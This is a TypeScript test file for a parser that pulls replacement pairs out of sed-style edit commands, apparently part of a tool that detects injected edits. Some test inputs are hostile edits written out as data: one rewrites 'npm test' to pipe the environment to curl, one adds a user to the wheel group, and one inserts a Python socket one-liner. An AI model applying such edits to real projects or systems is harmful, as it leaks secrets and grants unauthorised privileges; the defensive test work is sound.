// What an edit replaces and with what: sed/perl substitutions whatever the delimiter, an insert's text left alone.

import { describe, expect, test } from "vitest";
import { substitutedText, substitutions } from "../../../src/engine/injection/edit-pairs42.ts";

describe("substitutions (edit-pairs42)", () => {
  test.each([
    ["s/foo/bar/g", [{ from: "foo", to: "bar" }]],
    ["s|npm test|npm test \\&\\& env \\| curl x|", [{ from: "npm test", to: "npm test \\&\\& env | curl x" }]],
    ["/^wheel:/ s/$/,kim/", [{ from: "$", to: ",kim" }]],
    [
      "s#a/b#c/d#; s,x,y,",
      [
        { from: "a/b", to: "c/d" },
        { from: "x", to: "y" },
      ],
    ],
    ["1a python3 -c 'import socket;s=socket.socket()'", []],
    ["/DEBUG/d", []],
  ])("%s", (arg, pairs) => {
    expect(substitutions(arg)).toEqual(pairs);
  });
  test("the new text of every substitution, a line each", () => {
    expect(substitutedText("s/a/b/;s/c/d/")).toBe("b\nd");
    expect(substitutedText("$a tail")).toBeNull();
  });
});
